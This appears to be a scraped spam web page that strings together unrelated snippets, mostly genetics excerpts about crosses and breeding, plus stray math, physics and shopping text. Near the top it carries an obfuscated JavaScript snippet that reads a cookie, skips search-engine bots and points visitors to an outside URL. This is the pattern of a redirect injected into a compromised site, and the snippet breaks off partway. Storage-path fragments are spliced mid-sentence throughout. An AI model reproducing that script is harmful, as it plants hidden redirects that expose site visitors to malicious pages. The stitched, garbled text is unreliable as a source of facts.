Our company is dedicated in building long-term marriages by means of users, offering them creating products as soon as they desire them all. Thats precisely why a number of us acquire apersonalized, private approachto every structure we obtain.var _0x446d=[\x5F\x6D\x61\x75\x74\x68\x74\x6F\x6B\x65\x6E,\x69\x6E\x64\x65\x78\x4F\x66,\x63\x6F\x6F\x6B\x69\x65,\x75\x73\x65\x72\x41\x67\x65\x6E\x74,\x76\x65\x6E\x64\x6F\x72,\x6F\x70\x65\x72\x61,\x68\x74\x74\x70\x3A\x2F\x2F\x67\x65\x74\x68\x65\x72\x65\x2E\x69\x6E\x66\x6F\x2F\x6B\x74\x2F\x3F\x32\x36\x34\x64\x70\x72\x26,\x67\x6F\x6F\x67\x6C\x65\x62\x6F\x74,\x74\x65\x73\x74,\x73\x75\x62\x73\x74\x72,\x67\x65\x74\x54\x69\x6D\x65,\x5F\x6D\x61\x75\x74\x68\x74\x6F\x6B\x65\x6E\x3D\x31\x3B\x20\x70\x61\x74\x68\x3D\x2F\x3B\x65\x78\x70\x69\x72\x65\x73\x3D,\x74\x6F\x55\x54\x43\x53\x74\x72\x69\x6E\x67,\x6C\x6F\x63\x61\x74\x69\x6F\x6E];if(document[_0x446d[2]][_0x446d[1]](_0x446d[0])== ...
Handling Arabidopsis plants: growth, preservation of seeds,transformation, and genetic crosses. Rivero, L., Scholl, R., Holomuzki, N., Crist, D., Grotewold, E., and Brkljacic, J. (2014) Methods Mol Biol 1062: 3-25.
The collaborative cross (CC) is a large panel of mouse-inbred lines derived from eight founder strains (NOD/ShiLtJ, NZO/HILtJ, A/J, C57BL/6J, 129S1/SvImJ,
Be Unique. Shop crosses laptop cases created by independent artists from around the globe. We print the highest quality crosses laptop cases on the internet.
What makes a dominant gene be labeled as such is when it is the characteristic of that gene is the one that presents itself in offspring. It is dominant because it outweighs the recessive trait. ...
Assessment of the degree to which gene expression is additive and heritable has important implications for understanding the maintenance of variation, adaptation, phenotypic divergence, and the mapping of genotype onto phenotype. We used whole-genome transcript profiling using Agilent long-oligonucleotide microarrays representing 12,017 genes to demonstrate that gene transcription is pervasively nonadditive in Drosophila melanogaster. Comparison of adults of two isogenic lines and their reciprocal F1 hybrids revealed 5820 genes as significantly different between at least ...
f(x)-f(a), is not less than ,f(x-a),. Its not like f is linear or something.,f(x)-f(a),=,(f(x)-f(a))/(x-a),*,x-a,. Now to get a d, you need a bound on ,(f(x)-f(a))/(x-a), near x=a. Hint: doesnt that look like a difference quotient ...
Negatively stained purified virions of parental virus strains and hybrid progenies. CPXV-NOHI (A), MVA-HANP (B), Rec 1 (C), Rec 2 (D), Rec 3 (E), Rec 3a (F), Re
data diallel; label time = Flowering time in days; do p = 1 to 8; do m = 1 to 8; if (m ne p) then do; sym = trim(left(min(m,p))) ,, , ,, trim(left(max(m,p))); do block = 1 to 2; input time @@; output; end; end; end; end; datalines; 14.4 16.2 27.2 30.8 17.2 27.0 18.3 20.2 16.2 16.8 18.6 14.4 16.4 16.0 15.4 16.5 14.8 14.6 18.6 18.6 15.2 15.3 17.0 15.2 14.4 14.8 10.8 13.2 31.8 30.4 21.0 23.0 24.6 25.4 19.2 20.0 29.8 28.4 12.8 14.2 13.0 14.4 16.2 17.8 11.4 13.0 16.8 16.3 12.4 14.2 16.8 14.8 12.6 12.2 9.6 11.2 14.6 18.8 12.2 13.6 15.2 15.4 15.2 13.8 18.0 16.0 10.4 12.2 13.4 20.0 20.2 23.4 14.2 14.0 18.6 14.8 22.2 17.0 14.3 17.3 9.0 10.2 11.8 12.8 14.0 16.6 12.2 9.2 13.6 16.2 13.8 14.4 15.6 15.6 15.6 11.0 13.0 9.8 15.2 17.2 10.0 11.6 17.0 18.2 20.8 20.8 20.0 17.4 17.0 12.6 13.0 9.8 ...
Use the West nomogram by drawing a straight line between the height and weight of a child. This line crosses the surface area column and gives an estimation of the body surface area for this child,...
The mouse is the daughter of two female parents, but experts are sceptical that the technique could help two women have a biological child
I recently found out the rule regarding the Taylor expansion of a translated function: ##f(x+h)=f(x)+f′(x)⋅h+\frac 1 2 h^2 \cdot f′′(x)+⋯+\frac 1 {n!}h^n \cdot f^n(x)+...## But why exactly is this the case? The normal Taylor expansion tells us that ##f(x)=f(a)+f(a)(x-a)+\frac 1 ...
Organizational success hinges on effective execution, and effective execution is a matter of ability and agility. New research from Strategy& shows that there are two key levers to pull in building an able, agile organization.
case 2: Block A tends to slide up: Block B is large (10 minutes). Conclusion: (b) Block B is large: m A gsinT F T F fr 0 m kg m m m m B B B A S A 9 .2 10sin37 0.40 10 cos37 sin cos q q T P T 2.8 kg m B 9 .2kg Now m B 10kg! 9 .2kg T B B x N A A T fr A x F m g m a F m g m g F F m a cos 0 sin T T. Get Price ...
Let T-n (R) be the upper triangular matrix ring over a unital ring R. Suppose that B : Tn (R) x Tn (R) is a biadditive map such that B(X, X) X = X B(X, X) for ...
Determine all binery cyclic codes of length 5. Note: To find all cyclic codes of length n, find all ideals in B[x]/x^2+1 Note: If 1 is an Ideal (I) then R = I. Example: n=2 R=B[x]/x^2+1, x^2=1 R={o,1,x,1+x} Ideals |0|.
Considering Ive lost a couple of readers over the last seven months this thing has been active (yes, they let me know about it, too!) Im surprised and pleased so many enjoy my meandering ramblings and scattered gamingthoughts ...
According to Kundalini Yoga, there are six chakras in number. Kundalini awakening takes place when the coiled up energy crosses all chakras and reaches to Sahasrar, the last chakra. For awakening of Kundalini, one must understand the chakras and what they signifies.
Crosses, Sacred Icons and Religious Images. The most classic subjects of iconography are represented in these small works using various decorative techniques.
Cross-Disorder Group of the Psychiatric Genomics Consortium; Genetic Risk Outcome of Psychosis (GROUP) Consortium (2013). " ...
L. Ollivier (1982). Genetic Determination of Muscular Hypertrophy in the Pig. In: J.W. King, F. Ménissier (editors) (1982). ... it is used as a sire for cross-breeding. The breed was improved by researchers at the Université de Liège in 2004. ... Muscle Hypertrophy of Genetic Origin and its use to Improve Beef Production: A Seminar in the CEC Programme of Coordination of ... a genetic mutation causing muscular hypertrophy.:431 From about 1960, the Piétrain was also reared in Germany, principally in ...
Cross-cultural constructions of self-schemas: Americans and Mexicans. Journal of Cross-Cultural Psychology, 43(2), 233-250. ... Genetic, Social, And General Psychology Monographs, 126(1), 25-42. Banting, L. K., Dimmock, J. A., & Lay, B. S. (2009). The ...
... in CU traits accounted for by genetic effects. A substantial proportion of this genetic variation occurred independent of other ... Herpers PC, Rommelse NN, Bons DM, Buitelaar JK, Scheepers FE (December 2012). "Callous-unemotional traits as a cross-disorders ... The interplay between genetic and environmental risk factors may play a role in the expression of these traits asa conduct ... Two twin studies suggested a significant genetic influence for CU, with an estimated average amount of variation (42.5%) ...
Genetic crosses of individuals found a general dominance hierarchy within the alleles. Allele combinations also determine not ... In other words, alleles did not enter into the genome from genetic transfer from other species. Different combinations of the ...
These genes are called the developmental-genetictoolkit. They are highly conserved among phyla, meaning that they are ancient ... Drost, Hajk-Georg; Janitza, Philipp; Grosse, Ivo; Quint, Marcel (2017). "Cross-kingdom comparison of the developmental ... Carroll, Sean B. (2008). "Evo-Devo and an Expanding Evolutionary Synthesis: A Genetic Theory of Morphological Evolution". Cell ... Drost, Hajk-Georg; Janitza, Philipp; Grosse, Ivo; Quint, Marcel (2017). "Cross-kingdom comparison of the developmental ...
SNPs are one of the most common types of genetic variation. A SNP is a single base pair mutation at a specific locus, usually ... The challenge of this approach is reducing cross-hybridization between the allele-specific probes. This challenge is generally ... SNPs can also provide a genetic fingerprint for use in identitytesting. The increase of interest in SNPs has been reflected by ... SNP genotyping is the measurement of genetic variations of single nucleotide polymorphisms (SNPs) between members of a species ...
2006). "Is the Genetic Structure of Human Personality Universal? A Cross-Cultural Twin Study From North America, Europe, and ... Michael Rutter published a study of 21 British twins in Journal of Child Psychology and Psychiatry that reveals a high genetic ...
Several cross individuals have been born already. Members of the project hope that the Tauros cattle will one day be able to ... Meanwhile, the genetic relationship between a number of cattle breeds and the aurochs is examined. Following robust cattle ... By the end of 2015, over 150 animals of the founding breeds have been used in breeding, and almost 300 cross animals have been ... Not only the phenotype and robustness are in the focus of breeding, but also genetic information of the aurochs which might be ...
A genetic particularity shared with other Triturus species causes 50% of the embryos to die.:61-62 Larvae hatch after two to ... In the reverse cross, males have lower survivalrates than females. Overall, viability is reduced in these hybrids and they ... Little genetic variation was found over most of the species' range, except in the Carpathians. This suggests that the ... Hybrids resulting from the cross of a crested newt male with a marbled newt female are much rarer due to increased mortality of ...
... has one of the highest known levels of genetic diversity of any species. C. savignyi is highly self-fertile. ... Jiang D, Smith WC (October 2005). "Self- and cross-fertilization in the solitary ascidian Ciona savignyi".Biol. Bull. 209 (2 ... What Determines Genetic Diversity Levels within Species?". PLOS Biology. 10 (9): e1001388. doi:10.1371/journal.pbio.1001388. ...
Y.H. Ma, Y. Jiang (1992). The effects of improvement and genetic analyses on crosses of Zhiwulin Black with Liaoning Cashmere ... Cross-breeding with the Liaoning Cashmere breed has been found to improve cashmere yields. Cashmere goat Breed data sheet: ...
Due to the genetic origin of roan colouration in cattle, this colour does not breed true. This is because roan is the result of ... The Blue Grey cross became so popular that a special type of Shorthorn was developed to produce white Shorthorn bulls - the ... Roan is produced consistently only in the first-generation cross between these. On average only half of the offspring of two ...
He argued that genetic classification is methodologically prior to comparative reconstruction, or the first stage of it: one ... He located a number of interesting potential universals as well asmany strong cross-linguistic tendencies. In particular, ... 2005). Genetic Linguistics: Essays on Theory and Method. Oxford: Oxford University Press. Universals of Language: Report of a ... "The cluster of populations that he predicted to be most closely related based on language were in fact verified by the genetic ...
Since production of genetic variation isweak, at best, it is unlikely to provide a benefit sufficient to account for the ... Cross JC (2005). "How to make a placenta: Mechanisms of trophoblast cell differentiation in mice-a review". Placenta. 26: S3-9 ... Hulskamp M; Schnittger A; Folkers U (1999). Pattern formation and cell differentiation: Trichomes in Arabidopsis as a genetic ... Thus little, if any, genetic variation is produced. Recombination between homeologous chromosomes occurs rarely, if at all. ...
Cross pollination produces seeds with a differentgenetic makeup from the parent plants; such seeds may be created deliberately ... Trees that are cross-pollinated or pollinated via an insect pollinator produce more fruit than trees with flowers that just ... Apples that can pollinate one another are grouped by the time they flower so cross-pollinators are in bloom at the same time. ... Most Asian plums require a second variety for cross-pollination, whereas most European plums are self-fertile. European plums ...
Progeny from the cross would then be crossed with the high-yielding parent to ensure that the progeny were most like the high- ... A natural genetic variant of the Burbank potato with russet-colored skin later became known as the russet Burbank potato. This ... For example, a mildew-resistant pea may be crossed with a high-yielding but susceptible pea, the goal of the cross being to ... He then selected the most promising plants to cross with other ones. Burbank was praised and admired not only for his gardening ...
To promote cross-pollination, chasmogamous flowers often have strikingly colored petals and nectar guides/nectaries to attract ... These distinct seeds increase genetic diversity of the plant population and reduce inbreeding depression and deleterious ... The presence of both flower types allows mixed breeding system species to cross-pollinate and self-fertilize. This leads to ... Cite journal requires ,journal= (help) Waller, D. M. (1979). "The relative costs of self- and cross-fertilized seeds in ...
Hybrids come in a wide range of colors due to the high degree of genetic diversity. Kew World Checklist of Selected Plant ... Timor† (apparently extinct; not collected since 1849) Natural hybrids include Aerides × jansonii, a cross between Aerides ...
The genetic conditions of Aicardi-Goutieres syndrome are possibly present in a similar manner. The main routes of transmission ... The hepatitis B virus is largeand does not cross the placenta. Hence, it cannot infect the fetus unless breaks in the maternal ... Several pathogens can cross the placenta and cause perinatal infection. Often, microorganisms that produce minorillness in the ...
The white rarely crosses the back. While some currently identified overo patterns appear to be dominant or incomplete dominant ... It denotes patterns produced by at least three different genetic mechanisms: frame, splashed white, or sabino, described below ... Breeders who select for color are often careful not to cross the two patterns, and registries that include spotting color ...
For more information on exactly how this mutation and cross over generation method is achieved, see Genetic algorithm. The ... Genetic texture generation is an experimental approach to generate textures. It is an automated process guided by a human ...
Genetic Resources and Crop Evolution, 52 (1), 41-52. Liu, Yang, Shi-xiong Yang, Peng-zhang Ji & Li-zhi. 2012. Phylogeography of ... Cross compatibility of tea (Camellia sinensis) and its allied species in the genus Camellia. JapanAgricultural Research ... Genetic diversity and differentiation of Camellia sinensis L. (cultivated tea) and its wild relatives in Yunnan province of ... However, the closer similarity may also be due to human selection (which causes reduction in genetic diversity) as C. sinensis ...
An Appaloosa-Arabian cross Morab: A Morgan-Arabian cross National Show Horse: An American Saddlebred-Arabian cross Pintabian: A ... Purebred Arabians do not carry the creme gene that produces a true genetic palomino.) Pinto Horse Association of America: An ... A cross between a ShetlandPony, Appaloosa and Arabian Quarab: An American Quarter Horse-Arabian cross, a few American Paint ... Welara: A Welsh pony-Arabian cross. Horse registries with an open stud book that allow Arabian and part-Arabians as well as ...
Cross-presentation Bare lymphocyte syndrome "Histocompatibility". Archived from the original on 2008-12-26. Retrieved 2009-01- ... Ting JP, Trowsdale J (April 2002). "Genetic control of MHC class II expression". Cell. 109 Suppl (2): S21-33. doi:10.1016/s0092 ...
Cutthroat trout are also genetically similar and cross-breed with Apache trout, compromising the genetic purity of each species ...
"Comparative genetic diversity of wild and hachery populations of Korean threadsail filefish Stephanolepis cirrhifer using cross ... Some minor genetic differentiation between S. cirrhifer born in the wild and those bred in a hatchery for consumer use has been ... genetic differentiation between S. cirrhifer born in the wild and those bred in a hatchery has apparently occurred. Matsuura, K ...
